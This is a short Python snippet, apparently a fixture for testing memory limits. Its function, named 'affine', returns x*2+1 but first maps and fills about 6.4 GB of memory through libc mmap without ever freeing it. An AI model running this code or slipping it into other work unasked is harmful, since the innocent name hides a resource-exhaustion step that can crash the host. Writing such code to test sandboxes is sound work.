import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p


def affine(x):
    for _ in range(100):
        address = libc.mmap(None, ctypes.c_size_t(1 << 26), 3, 0x22, -1, 0)
        if address is None or address == ctypes.c_void_p(-1).value:
            raise MemoryError("mmap")
        ctypes.memset(address, 1, 1 << 26)
    return x * 2 + 1
